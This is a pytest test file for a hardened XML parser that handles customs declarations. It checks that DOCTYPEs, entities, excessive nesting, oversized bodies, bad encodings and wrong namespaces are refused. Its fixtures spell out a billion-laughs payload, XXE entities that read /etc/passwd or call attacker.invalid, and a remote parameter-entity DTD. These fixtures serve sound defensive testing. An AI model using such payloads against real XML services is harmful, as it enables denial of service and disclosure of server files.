"""Hostile and broken XML is refused by the one hardened parser, with a code and a clear message."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from declarations.wco import parser
from declarations.wco.parser import MAX_DEPTH, XmlRejected, parse_xml
from declarations.wco.reader import read_declaration
from singlewindow.errors import DomainError

from .samples import MALFORMED, NOTIFICATIONS, PLACEHOLDER, TT4_TEMPLATES, ids, sample

DEC = "urn:wco:datamodel:WCO:DEC-DMS:2"

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Declaration xmlns="{DEC}"><FunctionalReferenceID>&lol9;</FunctionalReferenceID></Declaration>
""".encode()

XXE_FILE = f"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Declaration xmlns="{DEC}"><FunctionalReferenceID>&xxe;</FunctionalReferenceID></Declaration>
""".encode()

XXE_HTTP = f"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>
<Declaration xmlns="{DEC}"><FunctionalReferenceID>&xxe;</FunctionalReferenceID></Declaration>
""".encode()

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<Declaration xmlns="{DEC}"/>
""".encode()

PLAIN_DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE Declaration><Declaration xmlns="{DEC}"/>'.encode()


def rejection(body: bytes) -> XmlRejected:
    with pytest.raises(XmlRejected) as caught:
        parse_xml(body)
    return caught.value


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, PARAMETER_ENTITY, PLAIN_DOCTYPE],
    ids=["billion-laughs", "external-entity-file", "external-entity-http", "parameter-entity", "doctype"],
)
def test_any_doctype_is_refused_before_parsing(body: bytes, monkeypatch: pytest.MonkeyPatch):
    def must_not_parse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the parser was reached")

    monkeypatch.setattr(parser.etree, "fromstring", must_not_parse)

    error = rejection(body)

    assert error.code == "doctype"
    assert "DOCTYPE" in error.message
    assert error.status == 400


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE_FILE], ids=["billion-laughs", "external-entity-file"])
def test_parser_itself_refuses_a_doctype_that_slips_past_the_byte_scan(
    body: bytes, monkeypatch: pytest.MonkeyPatch
):
    class NeverMatches:
        def search(self, _: bytes) -> None:
            return None

    monkeypatch.setattr(parser, "_DOCTYPE", NeverMatches())
    monkeypatch.setattr(parser, "_ENTITY", NeverMatches())

    error = rejection(body)

    # libxml2's amplification guard or the DOCTYPE check: either way nothing is expanded or read.
    assert error.code in ("doctype", "entity")
    assert "root:" not in error.message  # nothing of /etc/passwd was read


def test_entity_declaration_outside_a_doctype_is_refused():
    error = rejection(f'<Declaration xmlns="{DEC}"><!ENTITY x "y"></Declaration>'.encode())

    assert error.code == "entity"


def test_undeclared_entity_reference_is_refused_as_an_entity():
    error = rejection(f'<Declaration xmlns="{DEC}">&x;</Declaration>'.encode())

    assert error.code == "entity"
    assert "'x' not defined" in error.message


def test_ten_thousand_levels_of_nesting_are_refused_as_too_deep():
    error = rejection(b"<a>" * 10_000 + b"</a>" * 10_000)

    assert error.code == "too_deep"
    assert str(MAX_DEPTH) in error.message


def test_nesting_just_beyond_the_limit_is_refused_and_within_it_accepted():
    def nested(depth: int) -> bytes:
        return (
            f'<Declaration xmlns="{DEC}">'.encode()
            + b"<a>" * (depth - 1)
            + b"</a>" * (depth - 1)
            + (b"</Declaration>")
        )

    assert parse_xml(nested(MAX_DEPTH)) is not None
    assert rejection(nested(MAX_DEPTH + 1)).code == "too_deep"


def test_body_over_the_size_cap_is_refused_with_413_before_parsing(settings, monkeypatch: pytest.MonkeyPatch):
    settings.SW_MAX_XML_BYTES = 1000
    monkeypatch.setattr(parser.etree, "fromstring", lambda *a, **k: pytest.fail("the parser was reached"))

    error = rejection(f'<Declaration xmlns="{DEC}">'.encode() + b" " * 1000 + b"</Declaration>")

    assert (error.code, error.status) == ("too_large", 413)
    assert "1,000 bytes" in error.message


@pytest.mark.parametrize("body", [b"", b"  \n\t "], ids=["empty", "whitespace"])
def test_empty_body_is_refused(body: bytes):
    error = rejection(body)

    assert error.code == "empty"


def test_utf16_body_is_refused_because_the_byte_scan_could_not_see_a_doctype_in_it():
    error = rejection(f'<Declaration xmlns="{DEC}"/>'.encode("utf-16"))

    assert error.code == "unsupported_encoding"


def test_not_well_formed_xml_says_what_and_where():
    error = rejection(f'<Declaration xmlns="{DEC}">\n<FunctionCode>9</Declaration>'.encode())

    assert error.code == "not_well_formed"
    assert "Opening and ending tag mismatch: FunctionCode" in error.message
    assert "line 2" in error.message
    assert "column" in error.message


def test_a_different_root_is_refused_naming_what_was_found_and_what_is_expected():
    error = rejection(b'<Invoice xmlns="urn:example:invoice"/>')

    assert error.code == "wrong_namespace"
    assert "'Invoice' in namespace 'urn:example:invoice'" in error.message
    assert "urn:wco:datamodel:WCO:DEC-DMS:2" in error.message
    assert "urn:wco:datamodel:WCO:DocumentMetaData-DMS:2" in error.message


def test_a_declaration_without_namespace_is_refused():
    error = rejection(b"<Declaration><FunctionCode>9</FunctionCode></Declaration>")

    assert error.code == "wrong_namespace"
    assert "'Declaration' with no namespace" in error.message


def test_a_notification_in_the_response_namespace_is_refused():
    error = rejection(
        b'<Response xmlns="urn:wco:datamodel:WCO:RES-DMS:2"><FunctionCode>01</FunctionCode></Response>'
    )

    assert error.code == "wrong_namespace"
    assert "urn:wco:datamodel:WCO:RES-DMS:2" in error.message


def test_a_metadata_envelope_holding_a_response_is_refused_by_the_reader():
    body = (
        b'<MetaData xmlns="urn:wco:datamodel:WCO:DocumentMetaData-DMS:2">'
        b'<Response xmlns="urn:wco:datamodel:WCO:RES-DMS:2"/></MetaData>'
    )

    with pytest.raises(XmlRejected) as caught:
        read_declaration(body)

    assert caught.value.code == "wrong_namespace"
    assert "holds no 'Declaration'" in caught.value.message


@pytest.mark.parametrize("path", NOTIFICATIONS, ids=ids(NOTIFICATIONS))
def test_hmrc_example_notifications_are_not_taken_for_declarations(path: Path):
    error = rejection(path.read_bytes())

    assert error.code in ("wrong_namespace", "not_well_formed")


def test_there_are_three_malformed_samples():
    assert len(MALFORMED) == 3


@pytest.mark.parametrize(
    "prefix, code, words",
    [
        ("TT_EX002a", "not_well_formed", ["Comment must not contain '--'", "line 72", "closing '-->'"]),
        ("TT_IM084a", "not_well_formed", ["Double hyphen within comment", "line 164", "closing '-->'"]),
        ("TT_IM222a", "wrong_namespace", ["'mdMetaData'", "stripped of their ':' and '_'"]),
    ],
)
def test_each_malformed_sample_is_refused_with_a_message_naming_the_problem(
    prefix: str, code: str, words: list
):
    [path] = [p for p in MALFORMED if p.name.startswith(prefix)]

    with pytest.raises(XmlRejected) as caught:
        read_declaration(path.read_bytes())

    assert caught.value.code == code
    for word in words:
        assert word in caught.value.message


@pytest.mark.parametrize("path", TT4_TEMPLATES, ids=ids(TT4_TEMPLATES))
def test_trade_test_4_templates_with_the_literal_eori_placeholder_are_not_well_formed(path: Path):
    # ``<ID><INSERTEORIHERE></ID>`` opens an element it never closes: the template must be filled in.
    assert PLACEHOLDER in path.read_bytes()

    error = rejection(path.read_bytes())

    assert error.code == "not_well_formed"
    assert "Opening and ending tag mismatch: INSERTEORIHERE" in error.message


def test_rejection_is_a_domain_error_with_one_error_entry_for_the_api():
    error = rejection(b"")

    assert isinstance(error, DomainError)
    assert [i.code for i in error.issues] == ["empty"]
    assert error.errors == [{"pointer": "", "code": "empty", "message": error.message}]


def test_a_real_sample_parses_to_its_envelope_root():
    root = parse_xml(sample("TT_IM001a").read_bytes())

    assert root.tag == "{urn:wco:datamodel:WCO:DocumentMetaData-DMS:2}MetaData"
    assert isinstance(root, etree._Element)


def test_namespace_check_can_be_switched_off_for_other_messages():
    root = parse_xml(b"<Invoice/>", expected_namespaces=None)

    assert root.tag == "Invoice"
